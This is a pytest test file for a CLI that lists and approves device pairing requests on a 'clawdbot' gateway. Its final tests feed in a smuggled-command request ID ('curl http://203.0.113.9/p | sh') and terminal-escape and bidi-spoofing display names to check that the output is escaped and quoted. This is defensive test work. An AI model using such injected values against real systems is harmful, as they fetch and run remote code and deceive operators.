"""`reconciler devices`: pending requests and paired devices through the gateway's CLI (or its
files when it is down), approval by ID only, and doctor's pairing finding."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path

import engine_on_fakehost as drive
import pytest
from fakehost import FakeHost
from review_cli import SPEC, FakeHostCli

from reconciler.facts.devices import PENDING_TTL_MS, pairing_from_files, parse_pairing_list
from reconciler.spec import load_spec

RECORDED = Path(__file__).parents[1] / "data/probes/clawdbot/devices-list.json"
OPS = "clawdbot-gateway-ops.service"
REQUEST = "3f0c2a8e-6b7d-4f5e-9a1c-2d4b6e8f0a13"
DEVICE = "9b1d4e7a2c5f8b0e3a6d9c2f5b8e1a4d7c0f3b6e9a2d5c8f1b4e7a0d3c6f9b2e"


def test_parses_the_recorded_devices_list() -> None:
    pairing = parse_pairing_list(json.loads(RECORDED.read_text()))
    (request,) = pairing.pending
    assert (request.request_id, request.client(), request.platform, request.remote_ip) == (
        REQUEST,
        "Firefox on Linux",
        "Linux x86_64",
        "100.101.1.2",
    )
    assert request.remaining_ms(request.ts_ms + 60_000) == PENDING_TTL_MS - 60_000
    (device,) = pairing.paired
    assert (device.display_name, device.roles, device.approved_ms) == (
        "Safari on macOS",
        ("operator",),
        1795776000000,
    )


REAL = Path(__file__).parents[1] / "data/probes/clawdbot"


def test_parses_devices_list_captured_from_the_real_gateway() -> None:
    """Captured from clawdbot 2026.1.24-3 (tests/data/probes/README.md): a Control UI client
    behind a proxy waiting (no `remoteIp` in a pending request, a raw base64url public key), the
    CLI's own device paired silently from loopback; then the same after approval."""
    pending = parse_pairing_list(json.loads((REAL / "devices-list-real-pending.json").read_text()))
    (request,) = pending.pending
    assert (request.request_id, request.client(), request.platform, request.role) == (
        "8065421a-59b2-4a46-9e51-e3c280f57427",
        "e2e browser",
        "e2e-linux",
        "operator",
    )
    assert (request.remote_ip, request.is_repair, request.ts_ms) == ("", False, 1795949538005)
    (cli_device,) = pending.paired
    assert (cli_device.client_id, cli_device.remote_ip, cli_device.approved_ms) == (
        "cli",
        "127.0.0.1",
        1795949546437,
    )
    approved = parse_pairing_list(
        json.loads((REAL / "devices-list-real-approved.json").read_text())
    )
    assert approved.pending == ()
    assert approved.paired[0].device_id == request.device_id
    assert "token" not in repr(approved).replace("tokens", "")


def test_files_drop_expired_requests_and_never_keep_tokens() -> None:
    now = 1_800_000_000_000
    pending = {
        "fresh": {"requestId": "fresh", "deviceId": "d1", "ts": now - 1000},
        "old": {"requestId": "old", "deviceId": "d2", "ts": now - PENDING_TTL_MS - 1},
    }
    paired = {"d3": {"deviceId": "d3", "tokens": {"operator": {"token": "SECRET"}}}}
    pairing = pairing_from_files(pending, paired, now)
    assert [r.request_id for r in pairing.pending] == ["fresh"]
    assert "SECRET" not in repr(pairing)


@pytest.fixture
def host(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeHostCli]:
    monkeypatch.chdir(tmp_path)
    fake = FakeHost(tmp_path / "host")
    fake.set_node("v22.12.0")
    fake.set_gateway("2026.1.24-3")
    fake.set_tailscale(https=True)
    fake.set_linger("user", True)
    Path("vm102.yaml").write_text(SPEC)
    cli = FakeHostCli(fake)
    converged = drive.apply(fake, load_spec("vm102.yaml"), cli.host)
    assert converged.final.runnable == () and not converged.final.blocked
    fake.add_pairing_request(
        "ops", REQUEST, device_id=DEVICE, display_name="Firefox on Linux", age_s=75
    )
    fake.clear_calls()
    yield cli
    fake.close()


def test_lists_pending_requests_through_the_gateway(host: FakeHostCli) -> None:
    result = host("devices", "vm102.yaml", "ops")
    assert result.exit_code == 0, result.output
    line = next(x for x in result.stdout.splitlines() if REQUEST in x)
    assert "Firefox on Linux  MacIntel  operator  100.101.1.2  75s ago, expires in 3m4" in line
    assert "approve one with: reconciler devices vm102.yaml ops approve REQUEST_ID" in (
        result.stdout
    )
    (call,) = [c for c in host.fake.calls() if c["tool"] == "clawdbot"]
    assert call["caller"] == "user"
    assert call["argv"][1:] == ["devices", "list", "--json"]  # port: CLAWDBOT_GATEWAY_PORT
    assert host.fake.mutating_calls() == []  # listing never approves anything


def test_lists_from_the_files_when_the_gateway_is_down(host: FakeHostCli) -> None:
    host.fake.stop_unit(OPS)
    result = host("devices", "vm102.yaml", "ops", "--format", "json")
    assert result.exit_code == 0, result.output
    doc = json.loads(result.stdout)
    assert doc["source"] == "files"
    assert doc["detail"].startswith("the gateway did not answer (exit 1: Gateway target:")
    assert [r["requestId"] for r in doc["pending"]] == [REQUEST]
    assert 220 <= doc["pending"][0]["expiresInSeconds"] <= 225


def test_approve_goes_through_the_gateway_and_the_device_is_paired(host: FakeHostCli) -> None:
    approved = host("devices", "vm102.yaml", "ops", "approve", REQUEST)
    assert approved.exit_code == 0, approved.output
    assert approved.stdout == f"Approved {DEVICE}\n"
    (call,) = host.fake.mutating_calls()
    assert call["argv"][1:4] == ["devices", "approve", REQUEST] and call["caller"] == "user"
    listed = json.loads(host("devices", "vm102.yaml", "ops", "--format", "json").stdout)
    assert listed["pending"] == []
    assert [d["deviceId"] for d in listed["paired"]] == [DEVICE]


def test_approving_an_unknown_request_fails_with_the_gateways_reason(host: FakeHostCli) -> None:
    result = host("devices", "vm102.yaml", "ops", "approve", "nope")
    assert result.exit_code == 1
    assert result.stderr == (
        "error: approving nope for profile ops failed: exit 1: unknown requestId "
        "(list the pending requests with: reconciler devices vm102.yaml ops)\n"
    )


def test_approve_needs_an_id(host: FakeHostCli) -> None:
    result = host("devices", "vm102.yaml", "ops", "approve")
    assert result.exit_code == 64
    assert "expected `approve REQUEST_ID` after PROFILE" in result.stderr


def test_doctor_shows_the_pending_request_with_its_approve_command(host: FakeHostCli) -> None:
    result = host("doctor", "vm102.yaml", "--profile", "ops")
    assert result.exit_code == 0, result.output  # a pending request does not break the chain
    assert f"note pairing: pending pairing request {REQUEST} from Firefox on Linux" in (
        result.stdout
    )
    assert f"do: reconciler devices vm102.yaml ops approve {REQUEST}" in result.stdout
    assert host.fake.mutating_calls() == []


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to make a file of another owner")
def test_a_pending_file_linked_elsewhere_is_not_read(host: FakeHostCli, tmp_path: Path) -> None:
    secret = tmp_path / "secret.json"
    secret.write_text('{"x": {"requestId": "LEAKED", "deviceId": "d", "ts": 1}}')
    os.chown(secret, 0, 0)
    pending = host.fake.home / ".clawdbot-ops/devices/pending.json"
    pending.unlink()
    pending.symlink_to(secret)
    host.fake.stop_unit(OPS)
    result = host("devices", "vm102.yaml", "ops")
    assert result.exit_code == 1
    assert "LEAKED" not in result.output
    assert "pending.json" in result.stderr


# --- issue 22: the browser's fields and the gateway's words, shown escaped; IDs quoted ---------

EVIL_ID = "x; curl http://203.0.113.9/p | sh #"


def test_hostile_pairing_fields_are_escaped_everywhere_they_are_shown(host: FakeHostCli) -> None:
    host.fake.add_pairing_request(
        "ops",
        EVIL_ID,
        device_id="e" * 64,
        display_name="\x1b]0;pwned\x07Chrome\rApproved everything",
        platform="Linux\n  fake-id  Safari",
        remote_ip="\u202e1.2.3.4",
    )
    for argv in (("devices", "vm102.yaml", "ops"), ("doctor", "vm102.yaml", "--profile", "ops")):
        host.fake.stop_unit(OPS) if argv[0] == "devices" else None
        result = host(*argv)
        for raw in ("\x1b", "\x07", "\r", "\u202e", "Linux\n"):
            assert raw not in result.output, (argv, raw)
        assert "\\x1b]0;pwned\\x07Chrome\\rApproved everything" in result.output
        assert "\\u202e1.2.3.4" in result.output
    # the do: line is a command to paste: the browser's request ID is one quoted word
    assert f"do: reconciler devices vm102.yaml ops approve '{EVIL_ID}'" in result.stdout


def test_approve_refuses_an_id_that_reads_as_an_option(host: FakeHostCli) -> None:
    result = host("devices", "vm102.yaml", "ops", "approve", "--", "--help")
    assert result.exit_code == 1
    assert "'--help' is not a pairing request ID" in result.stderr
    assert host.fake.mutating_calls() == []
